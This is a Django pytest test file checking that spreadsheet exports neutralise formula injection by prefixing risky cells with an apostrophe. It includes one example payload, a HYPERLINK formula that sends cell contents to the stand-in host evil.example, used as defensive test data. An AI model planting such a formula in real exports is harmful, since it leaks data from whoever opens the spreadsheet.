"""Spreadsheet exports never carry a live formula (issue 9, item 6).

A report titled `=HYPERLINK(...)` typed by anyone must reach the officer's spreadsheet as text.
"""

import csv
import io

import pytest
from django.urls import reverse

from fabrique.core.exports import safe_cell
from fabrique.needs.services import need_create_from_report, need_report_submit
from tests.needs.conftest import report_data

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'


@pytest.mark.parametrize("value", ["=1+1", "+33 6", "-2+3", "@SUM(A1)", "\tx", "\rx", FORMULA])
def test_a_cell_that_a_spreadsheet_would_evaluate_is_neutralised(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Laverie", "", "a=b", 12, -3, 2.5, None])
def test_other_cells_are_unchanged(value):
    assert safe_cell(value) == value


def test_the_pipeline_export_neutralises_an_anonymous_title(login, team, fabrique):
    report = need_report_submit(fabrique=fabrique, **report_data(title=FORMULA))
    need_create_from_report(report=report, actor=team.officer)
    # when
    response = login(team.officer).get(
        reverse("backoffice:pipeline_export", kwargs={"fabrique_slug": fabrique.slug})
    )
    # then
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    titles = [row[2] for row in rows[1:]]
    assert titles == ["'" + FORMULA]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_every_export_goes_through_the_safe_helper():
    """No module writes CSV or XLSX itself, except the grouping tool whose output is ids for a program."""
    from pathlib import Path

    import fabrique

    allowed = {"core/exports.py", "grouping/cli.py", "territories/data/build_extract.py"}
    root = Path(fabrique.__file__).parent
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if str(path.relative_to(root)) not in allowed
        and any(word in path.read_text() for word in ("csv.writer(", "csv.DictWriter(", "Workbook("))
    ]
    assert offenders == []
